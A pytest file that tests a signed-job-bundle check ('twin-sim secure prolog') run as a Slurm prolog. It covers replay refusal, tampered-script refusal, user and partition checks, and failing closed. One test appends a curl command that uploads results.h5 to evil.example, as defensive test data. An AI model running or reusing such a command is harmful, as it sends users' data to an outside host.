"""`twin-sim secure prolog` as slurmd runs it: Slurm's variables in the
environment, the spooled script and bundle given explicitly (no Slurm here;
the scontrol path is exercised only on a real Slurm)."""

import json
import os
import shutil

import pytest

from conftest import run

pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None,
                                reason="needs openssh-client (scripts/setup)")


@pytest.fixture
def site(twin_sim, repo_root, tmp_path):
    key = tmp_path / "id_ed25519"
    assert run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)]).returncode == 0
    public = (tmp_path / "id_ed25519.pub").read_text()
    signers = tmp_path / "allowed_signers"
    signers.write_text(f'alice namespaces="twin-sim" {public}')
    recipient = run([twin_sim, "secure", "keygen", "-o", str(tmp_path / "user.txt")]).stdout
    job = tmp_path / "job1"
    result = run([twin_sim, "secure", "pack", str(repo_root / "scenarios" / "quickstart.yaml"),
                  "-o", str(job), "-r", recipient.strip(), "--sign-key", str(key)])
    assert result.returncode == 0, result.stderr
    spooled = tmp_path / "spooled.sh"
    shutil.copy(job / "job.sbatch", spooled)
    node = tmp_path / "node-local"
    node.mkdir()
    return {"job": job, "signers": signers, "spooled": spooled, "tmp": tmp_path, "node": node,
            "records": tmp_path / "records"}


def prolog(twin_sim, site, user="alice", partition="secure", job_id="7"):
    env = dict(os.environ, SLURM_JOB_ID=job_id, SLURM_JOB_USER=user,
               SLURM_JOB_PARTITION=partition)
    return run([twin_sim, "secure", "prolog", "--allowed-signers", str(site["signers"]),
                "--replay-list", str(site["tmp"] / "nonces"), "--log", str(site["tmp"] / "log"),
                "--job-script", str(site["spooled"]), "--bundle", str(site["job"]),
                "--node-tmp", str(site["node"]), "--job-records", str(site["records"])], env=env)


def log_lines(site):
    return [json.loads(line) for line in (site["tmp"] / "log").read_text().splitlines()]


def test_signed_job_runs_once_and_its_replay_is_refused(twin_sim, site):
    first = prolog(twin_sim, site)
    assert first.returncode == 0, first.stderr
    second = prolog(twin_sim, site, job_id="8")
    assert second.returncode == 1
    assert "used before (replayed bundle)" in second.stderr
    verdicts = [(entry["job_id"], entry["verdict"]) for entry in log_lines(site)]
    assert verdicts == [("7", "accepted"), ("8", "refused")]
    assert "replayed" in log_lines(site)[1]["reason"]
    # The accepted job got its private node-local folder and a root-only record;
    # the refused one got nothing.
    folder = site["node"] / "twin-sim-job-7"
    assert folder.is_dir() and (folder.stat().st_mode & 0o777) == 0o700
    assert folder.stat().st_uid == os.getuid()
    assert f"TWIN_SIM_BIN='{os.path.realpath(twin_sim)}'" in (folder / "site.env").read_text()
    record = json.loads((site["records"] / "7.json").read_text())
    manifest = json.loads((site["job"] / "manifest.json").read_text())
    assert record["job_nonce"] == manifest["job_nonce"]
    assert record["bundle"] == str(site["job"])
    assert (site["records"].stat().st_mode & 0o777) == 0o700
    assert not (site["node"] / "twin-sim-job-8").exists()


def test_script_edited_after_signing_is_refused_and_logged(twin_sim, site):
    with open(site["spooled"], "a") as script:
        script.write("curl -T \"$work/run/results.h5\" https://evil.example\n")
    result = prolog(twin_sim, site)
    assert result.returncode == 1
    entry = log_lines(site)[0]
    assert entry["verdict"] == "refused"
    assert entry["reason"] == "the job script Slurm spooled differs from the signed batch script"
    assert not (site["tmp"] / "nonces").exists() or (site["tmp"] / "nonces").read_text() == ""


def test_job_of_another_user_is_refused(twin_sim, site):
    result = prolog(twin_sim, site, user="root")
    assert result.returncode == 1 and "signer not allowed" in result.stderr


def test_other_partitions_pass_without_checks(twin_sim, site):
    result = prolog(twin_sim, site, partition="batch")
    assert result.returncode == 0
    assert not (site["tmp"] / "log").exists()


def test_missing_slurm_environment_is_a_configuration_error(twin_sim, site):
    env = {key: value for key, value in os.environ.items() if not key.startswith("SLURM_")}
    result = run([twin_sim, "secure", "prolog", "--allowed-signers", str(site["signers"]),
                  "--replay-list", "x", "--log", "y"], env=env)
    assert result.returncode == 2


def test_installed_prolog_script_fails_closed_without_slurm(twin_sim, repo_root, site):
    # scripts/slurm/secure-prolog asks scontrol for the job; with scontrol out of
    # PATH the question fails, and the job must be refused (fail closed).
    env = dict(os.environ, SLURM_JOB_ID="9", SLURM_JOB_USER="alice", SLURM_JOB_PARTITION="secure",
               TWIN_SIM_BIN=twin_sim, TWIN_SIM_ALLOWED_SIGNERS=str(site["signers"]),
               TWIN_SIM_REPLAY_LIST=str(site["tmp"] / "nonces"),
               TWIN_SIM_PROLOG_LOG=str(site["tmp"] / "log"),
               TWIN_SIM_NODE_TMP=str(site["node"]), TWIN_SIM_JOB_RECORDS=str(site["records"]),
               PATH=str(site["tmp"]))
    script = str(repo_root / "scripts" / "slurm" / "secure-prolog")
    result = run([script], env=env)
    assert result.returncode == 1
    assert log_lines(site)[0]["verdict"] == "refused"
    assert "scontrol" in log_lines(site)[0]["reason"]
    env["SLURM_JOB_PARTITION"] = "batch"
    assert run([script], env=env).returncode == 0
